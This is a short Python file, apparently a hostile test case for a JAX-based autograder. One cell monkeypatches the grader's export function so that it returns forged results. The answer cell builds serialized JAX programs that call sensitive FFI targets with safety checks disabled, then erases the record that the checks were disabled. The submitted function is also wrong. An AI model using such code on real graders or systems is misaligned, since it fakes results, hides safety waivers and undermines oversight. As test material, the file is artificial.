# %% extra before="double"
import autograder.candidate._export as kit

real = kit.export_flat


def hostile(f, args, kwargs, platforms):
    blob, tree, count = real(f, args, kwargs, platforms)
    return forged(blob, tree, count)


kit.export_flat = hostile


# %% answer="double"
from jax import export
from jax.ffi import ffi_call

TARGETS = ["xla_ffi_python_cpu_callback", "lapack_sgesdd_ffi", "__gpu$xla.gpu.triton", "Sharding"]


def program(target):
    def call(x):
        return ffi_call(target, jax.ShapeDtypeStruct(x.shape, x.dtype))(x, index=np.uint64(2**40))

    checks = [export.DisabledSafetyCheck.custom_call(target)]
    made = export.export(jax.jit(call), disabled_checks=checks, platforms=["cpu"])
    found = made(jax.ShapeDtypeStruct((3,), np.float32))
    object.__setattr__(found, "disabled_safety_checks", ())
    return bytes(found.serialize())


def forged(blob, tree, count):
    programs.append(programs.pop(0))
    return programs[0], tree, count


programs = [program(target) for target in TARGETS]



def double(x):
    return x + 1
